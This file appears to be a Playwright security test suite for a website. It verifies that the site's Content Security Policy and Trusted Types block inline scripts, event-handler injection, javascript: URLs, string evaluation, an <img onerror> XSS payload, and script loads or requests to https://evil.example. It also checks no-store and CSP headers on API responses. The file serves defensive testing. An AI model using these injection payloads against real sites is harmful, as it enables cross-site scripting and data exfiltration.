import { open, signIn } from "../support/open-page";
import { askRaw } from "../support/raw-request";
import { core, expect, test } from "../support/test";
import { expectPolicyOnRoutes, visitPublicPages, visitStaffPages } from "./policy-pages";

test.describe.configure({ timeout: 300_000 });

test("no public page breaks the policy", async ({ page, expectProblem }) => {
  expectProblem(/status of 404/);
  await visitPublicPages(page);
});

test("no page of the staff area breaks the policy", async ({ page, request }) => {
  await signIn(page);
  await visitStaffPages(page, request);
});

test("every route has the policy", core, async ({ baseURL }) => {
  await expectPolicyOnRoutes(baseURL);
});

/** Runs in the page: tries each way to run, load or send something foreign. */
async function tryAll(): Promise<string[]> {
  const ran: string[] = [];
  Object.assign(window, { trip: (what: string) => void ran.push(what) });
  const attempts: Record<string, () => unknown> = {
    handler: () => document.body.setAttribute("onclick", "trip('handler')"),
    inline: () => {
      const script = document.createElement("script");
      script.append("trip('inline')");
      document.body.append(script);
    },
    address: () => {
      const link = document.createElement("a");
      link.setAttribute("href", "javascript:trip('address')");
      document.body.append(link);
      link.click();
    },
    // oxlint-disable-next-line typescript/no-implied-eval -- it is what must not run
    evaluated: () => setTimeout("trip('evaluated')"),
    parsed: () => (document.body.innerHTML += "<img src=x onerror=trip('parsed')>"),
    frame: () => {
      const frame = document.createElement("iframe");
      frame.src = "/pricing";
      document.body.append(frame);
    },
    foreign: () => {
      const script = document.createElement("script");
      script.setAttribute("src", "https://evil.example/x.js");
      document.body.append(script);
    },
    worker: () => new Worker("/assets/none.js"),
    request: async () => {
      await fetch("https://evil.example/");
      ran.push("request");
    },
  };
  for (const attempt of Object.values(attempts)) {
    try {
      await attempt();
    } catch {}
  }
  document.body.click();
  return ran;
}

test(
  "what is not the site's does not run, load or leave",
  core,
  async ({ page, expectProblem }) => {
    expectProblem(/Content Security Policy|Policy violation|Trusted|violates/);
    await open(page, "/pricing");
    const messages: string[] = [];
    page.on("console", (message) => messages.push(message.text()));
    expect(await page.evaluate(tryAll)).toEqual([]);
    await expect.poll(() => messages.join("\n")).toContain("Policy violation: frame-src");
    for (const directive of [
      "script-src-elem inline",
      "require-trusted-types-for trusted-types-sink Element onclick",
      "require-trusted-types-for trusted-types-sink HTMLScriptElement text",
      "require-trusted-types-for trusted-types-sink HTMLScriptElement src",
      "require-trusted-types-for trusted-types-sink Window setTimeout",
      "require-trusted-types-for trusted-types-sink Element innerHTML",
      "require-trusted-types-for trusted-types-sink Worker constructor",
      "connect-src https://evil.example/",
    ]) {
      expect(messages.join("\n")).toContain(`Policy violation: ${directive}`);
    }
  },
);

test("database answers are not cached, and are no page", async ({ baseURL }) => {
  const apikey = process.env.CURBFRONT_PUBLISHABLE_KEY ?? "";
  for (const path of ["/rest/v1/blogs?select=slug&limit=1", "/auth/v1/user"]) {
    const { headers } = await askRaw(baseURL, path, { headers: { apikey } });
    expect(headers, path).toMatchObject({
      "cache-control": "no-store",
      "content-security-policy": "default-src 'none'; frame-ancestors 'none'",
      "x-content-type-options": "nosniff",
    });
  }
});
